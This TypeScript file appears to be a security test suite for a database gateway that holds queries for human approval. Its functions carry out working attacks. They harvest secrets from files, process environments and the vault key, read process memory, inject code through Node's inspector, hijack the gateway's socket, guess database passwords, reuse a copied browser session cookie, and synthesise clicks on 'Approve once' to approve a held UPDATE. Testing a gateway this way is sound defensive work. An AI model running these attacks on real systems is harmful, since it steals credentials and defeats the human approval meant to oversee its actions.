import { spawn, spawnSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  lstatSync,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  renameSync,
  rmSync,
  statSync,
} from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attempt, connectSql, hear, hold, product, type SqlClient, stateOf, type Target } from './tools.ts';

/** Attempts on the gateway's process, on what it keeps to itself, and on the browser. */

const words = (error: unknown) => (error as NodeJS.ErrnoException).code ?? String(error);

const MAX_FILES = 60_000;
const MAX_BYTES = 4 * 1024 * 1024;
const MAX_DEPTH = 8;

function* readable(folder: string, depth = 0): Generator<string> {
  let names: string[] = [];
  try {
    names = readdirSync(folder);
  } catch {
    return;
  }
  for (const name of names) {
    if (name === 'node_modules') continue;
    const path = join(folder, name);
    try {
      const found = lstatSync(path);
      if (found.isDirectory() && depth < MAX_DEPTH) yield* readable(path, depth + 1);
      else if (found.isFile() && found.size <= MAX_BYTES) yield path;
    } catch {
      // Gone, or closed.
    }
  }
}

function* processFiles(): Generator<string> {
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)) {
    yield `/proc/${pid}/environ`;
    yield `/proc/${pid}/cmdline`;
  }
}

/** The database's password out of the vault's files, as anybody who can read them gets it. */
async function openVault(target: Target): Promise<string | null> {
  type FileVault = typeof import('../../gateway/vault/file-vault.ts');
  const { loadVault, unseal } = await product<FileVault>(target, 'vault/file-vault.ts');
  const entry = loadVault(join(target.home, 'vault', 'vault.json')).get(target.connectionId);
  if (entry?.store !== 'file') return null;
  const key = Buffer.from(readFileSync(join(target.home, 'vault', 'vault.key'), 'utf8').trim(), 'hex');
  return unseal(key, target.connectionId, entry);
}

export async function readSecrets(target: Target): Promise<Attempt> {
  const needles = Object.entries(target.needles).map(([name, text]) => [name, Buffer.from(text)] as const);
  const found: string[] = [];
  let files = 0;
  for (const path of [...target.folders.flatMap((folder) => [...readable(folder)]), ...processFiles()]) {
    if (files >= MAX_FILES) break;
    let bytes: Buffer;
    try {
      bytes = readFileSync(path);
    } catch {
      continue;
    }
    files += 1;
    for (const [name, needle] of needles) if (bytes.includes(needle)) found.push(`${name} in ${path}`);
  }
  const opened = await openVault(target).catch(words);
  const isPassword = opened !== null && opened === target.needles.password;
  let direct = 'not tried';
  if (isPassword) {
    const client = await connectSql(target, target.database, opened);
    direct = (await client.query('SELECT current_user'))[0]?.rows[0]?.[0] ?? '';
    client.close();
  }
  const evidence = `${files} files; ${found.join(', ') || 'nothing'}; vault: ${isPassword ? 'opened' : opened}; database: ${direct}`;
  return { worked: found.length > 0 || isPassword, evidence };
}

export function readMemory({ pid, needles }: Target): Attempt {
  const seen: string[] = [];
  let worked = false;
  for (const name of ['environ', 'maps', 'mem', 'auxv', 'fd', 'io', 'stack', 'cwd', 'root']) {
    const path = `/proc/${pid}/${name}`;
    try {
      if (name === 'mem') {
        const range = /^([0-9a-f]+)-/.exec(readFileSync(`/proc/${pid}/maps`, 'utf8'));
        const read = readSync(openSync(path, 'r'), Buffer.alloc(64), 0, 64, Number.parseInt(range?.[1] ?? '0', 16));
        if (read === 0) continue;
      } else if (statSync(path).isDirectory()) readdirSync(path);
      else readFileSync(path);
      worked = true;
      seen.push(name);
    } catch (error) {
      seen.push(`${name} ${words(error)}`);
    }
  }
  const line = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
  if (Object.values(needles).some((needle) => line.includes(needle))) throw new Error(`a secret in arguments: ${line}`);
  return { worked, evidence: seen.join(', ') };
}

/** By ptrace, where strace is there to try it. */
function trace(pid: number): string {
  const run = spawnSync('strace', ['-p', String(pid), '-e', 'trace=none'], { encoding: 'utf8', timeout: 1_500 });
  if (run.error && (run.error as NodeJS.ErrnoException).code === 'ENOENT') return 'strace is not here';
  return /\battached\b/.test(run.stderr) ? 'attached' : run.stderr.trim();
}

/** Node opens its inspector on SIGUSR1; whoever reaches it runs code in the process. */
export async function attachDebugger({ pid }: Target): Promise<Attempt> {
  const traced = trace(pid);
  try {
    process.kill(pid, 'SIGUSR1');
  } catch (error) {
    return { worked: traced === 'attached', evidence: `${words(error)}; ${traced}` };
  }
  for (let attempt = 0; attempt < 100; attempt += 1) {
    await sleep(50);
    const list = await fetch('http://127.0.0.1:9229/json/list')
      .then((answer) => answer.json() as Promise<{ webSocketDebuggerUrl: string }[]>)
      .catch(() => null);
    if (!list?.[0]) continue;
    const answer = await ask(list[0].webSocketDebuggerUrl, 'Runtime.evaluate', { expression: 'process.pid' });
    const value = (answer.result as { value?: unknown } | undefined)?.value;
    // Leaves no debugger open for the attempts that follow.
    await ask(list[0].webSocketDebuggerUrl, 'Runtime.evaluate', {
      expression: 'process.mainModule, setTimeout(() => process._debugEnd(), 200), 1',
    });
    return { worked: value === pid, evidence: `ran code in ${String(value)}; ${traced}` };
  }
  return { worked: false, evidence: 'no inspector came' };
}

/** One command of the DevTools protocol. */
function ask(url: string, method: string, params: object): Promise<Record<string, unknown>> {
  return new Promise((done, fail) => {
    const socket = new WebSocket(url);
    socket.onopen = () => socket.send(JSON.stringify({ id: 1, method, params }));
    socket.onmessage = ({ data }) => {
      const answer = JSON.parse(String(data)) as { id?: number; result?: Record<string, unknown> };
      if (answer.id !== 1) return;
      socket.close();
      done(answer.result ?? {});
    };
    socket.onerror = () => fail(new Error(`${url} does not answer`));
  });
}

export async function takeSocket({ socket }: Target): Promise<Attempt> {
  const aside = `${socket}.aside`;
  try {
    renameSync(socket, aside);
  } catch (error) {
    return { worked: false, evidence: words(error) };
  }
  const server = createServer((_, response) => response.end('{"mine":true}'));
  await new Promise<void>((done) => server.listen(socket, done));
  // The person's commands now reach this process.
  process.stdout.write(`${JSON.stringify({ person: 'look' })}\n`);
  const seen = await hear();
  await new Promise((done) => server.close(done));
  rmSync(socket, { force: true });
  renameSync(aside, socket);
  return { worked: seen === 'mine', evidence: seen };
}

export function kill({ pid }: Target): Attempt {
  try {
    process.kill(pid, 'SIGKILL');
    return { worked: true, evidence: 'killed' };
  } catch (error) {
    return { worked: false, evidence: words(error) };
  }
}

export async function directDatabase(target: Target): Promise<Attempt> {
  const seen: string[] = [];
  for (const secret of [null, '', 'postgres', 'password', target.database.user, target.connectionId, target.token]) {
    let client: SqlClient | null = null;
    try {
      client = await connectSql(target, target.database, secret);
      seen.push('let in');
    } catch (error) {
      seen.push(words(error));
    } finally {
      client?.close();
    }
  }
  return { worked: seen.includes('let in'), evidence: seen.join(' ') };
}

export async function browserProfile(target: Target): Promise<Attempt> {
  const copy = `${target.chromiumProfile}-copy`;
  cpSync(target.chromiumProfile, copy, { recursive: true, filter: (path) => !/Singleton/.test(path) });
  const url = `http://127.0.0.1:${target.consolePort}/approvals`;
  const flags = ['--headless=new', '--no-sandbox', '--disable-gpu', '--no-first-run', '--virtual-time-budget=5000'];
  const child = spawn(target.chromium, [...flags, `--user-data-dir=${copy}`, '--dump-dom', url], {
    stdio: ['ignore', 'pipe', 'ignore'],
  });
  let page = '';
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
    page += chunk;
  });
  await new Promise((done) => child.on('close', done));
  const cookie = target.session.cookie?.split('=')[1] ?? '';
  const written = [...readable(copy)].filter((path) => existsSync(path) && readFileSync(path).includes(cookie));
  const asksForCode = page.includes('One-time code');
  if (!asksForCode && !page.includes('Approvals')) throw new Error(`the copied browser shows something else: ${page}`);
  const evidence = `${asksForCode ? 'asks for a code' : 'is signed in'}; the cookie is in ${written.join(' ') || 'no file'}`;
  return { worked: !asksForCode || written.length > 0, evidence };
}

export async function syntheticInput(target: Target): Promise<Attempt> {
  const held = await hold(target, "UPDATE customers SET name = name || '?' WHERE id = 2");
  const list = (await (await fetch(`http://127.0.0.1:${target.debuggingPort}/json/list`)).json()) as {
    url: string;
    webSocketDebuggerUrl: string;
  }[];
  const page = list.find(({ url }) => url.includes(String(target.consolePort)));
  if (!page) throw new Error('the console is not open');
  const find = `(() => {
    const button = [...document.querySelectorAll('button')].find((one) => one.textContent.includes('Approve once'));
    if (!button || button.disabled || button.getAttribute('aria-disabled') === 'true') return null;
    const { x, y, width, height } = button.getBoundingClientRect();
    return { x: x + width / 2, y: y + height / 2 };
  })()`;
  let state = 'waiting';
  for (let attempt = 0; attempt < 200 && state === 'waiting'; attempt += 1) {
    await sleep(50);
    const found = await ask(page.webSocketDebuggerUrl, 'Runtime.evaluate', { expression: find, returnByValue: true });
    const at = (found.result as { value?: { x: number; y: number } | null }).value;
    if (!at) continue;
    for (const type of ['mouseMoved', 'mousePressed', 'mouseReleased']) {
      const params = { type, ...at, button: 'left', clickCount: 1 };
      await ask(page.webSocketDebuggerUrl, 'Input.dispatchMouseEvent', params);
    }
    await sleep(100);
    state = await stateOf(target, held.id);
  }
  const result = state === 'approved' ? await held.result : state;
  held.client.close();
  return { worked: result === 'ran', evidence: `${state}: ${result}` };
}
